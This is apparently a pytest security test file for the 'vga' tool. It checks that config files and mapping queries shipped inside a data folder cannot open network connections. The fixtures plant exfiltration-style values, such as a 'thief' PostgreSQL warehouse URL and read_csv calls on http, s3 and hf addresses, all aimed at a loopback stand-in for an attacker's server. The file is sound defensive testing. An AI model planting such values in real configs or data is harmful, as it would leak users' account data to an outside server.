"""Nothing from a data folder opens a connection. A listener on a loopback
port stands in for the sender's server: its address is planted wherever a
folder could name it, and the test fails if anything connects."""

from __future__ import annotations

import socket

import pytest

from vga.config import load_config
from vga.errors import DataError, UsageError
from vga.load import load_folder

from .common import data_folder, mapping, one_line, vga


def _warehouse(port: int) -> dict[str, str]:
    return {
        "url": f'url = "postgresql://thief:pw@127.0.0.1:{port}/loot"',
        "url_env": 'url_env = "THIEF_URL"',
        "events_path": f'events_path = "http://127.0.0.1:{port}/events/*.parquet"',
        "spark": f'url = "pyspark://?spark.remote=sc://127.0.0.1:{port}"',
    }


@pytest.mark.parametrize("form", ["url", "url_env", "events_path", "spark"])
def test_a_data_folders_toml_cannot_open_a_connection(tmp_path, listener, form):
    """The attack: [warehouse] url in the folder's vga.toml, and a plain
    `vga validate` uploaded every account and user id to the sender."""
    folder = data_folder(tmp_path)
    (folder / "vga.toml").write_text(f"[warehouse]\n{_warehouse(listener)[form]}\n")
    env = {"THIEF_URL": f"postgresql://thief:pw@127.0.0.1:{listener}/loot"}
    done = vga("validate", "--data", folder, env=env)
    assert done.returncode == 2, done.stderr
    line = one_line(done)
    assert "came with the data folder" in line and "[warehouse]" in line and f"--config {folder / 'vga.toml'}" in line
    if form == "url":  # a run refuses it the same way, before anything is written
        done = vga("run", "--data", folder, "--period", "2026Q3", "--out", tmp_path / "reports", env=env)
        assert done.returncode == 2 and "came with the data folder" in one_line(done)
        assert not (tmp_path / "reports" / "2026Q3").exists()


def test_the_users_own_configuration_may_name_a_warehouse(tmp_path):
    """The refusal is for a file that came with the data: the same file
    named by --config is the user's, and vga tries the warehouse it names."""
    closed = socket.socket()
    closed.bind(("127.0.0.1", 0))
    port = closed.getsockname()[1]
    closed.close()  # nothing listens there now
    folder = data_folder(tmp_path)
    (folder / "vga.toml").write_text(f'[warehouse]\nurl = "postgresql://me@127.0.0.1:{port}/db"\n')
    with pytest.raises(UsageError, match="came with the data folder"):
        load_config(None, folder)
    with pytest.raises(DataError, match=f"the warehouse at 127.0.0.1:{port} cannot be reached"):
        load_folder(folder, load_config(folder / "vga.toml"))


@pytest.mark.parametrize("name", ["http://127.0.0.1:{port}/a.csv", "HTTP://127.0.0.1:{port}/a.csv",
                                  "s3://127.0.0.1:{port}/a.csv", "hf://127.0.0.1:{port}/a.csv",
                                  "//127.0.0.1:{port}/a.csv"])
def test_a_mapping_query_reaches_no_server(tmp_path, listener, name):
    folder = data_folder(tmp_path)
    target = name.format(port=listener)
    mapping(folder, f"SELECT * FROM read_csv('{target}')")
    with pytest.raises(DataError, match="vga.toml line 2") as info:
        load_folder(folder, load_config(None, folder))
    assert "\n" not in str(info.value)
    # Built at run time, the name still reaches nothing: DuckDB may open only the named files.
    mapping(folder, "SELECT account_id, arr FROM read_csv('accounts.csv') "
                    f"WHERE (SELECT count(*) FROM read_csv('accounts.csv')) > 0 AND length(concat('{target}')) > 0")
    assert load_folder(folder, load_config(None, folder)).tables["accounts"].quality["rows_accepted"] == 3
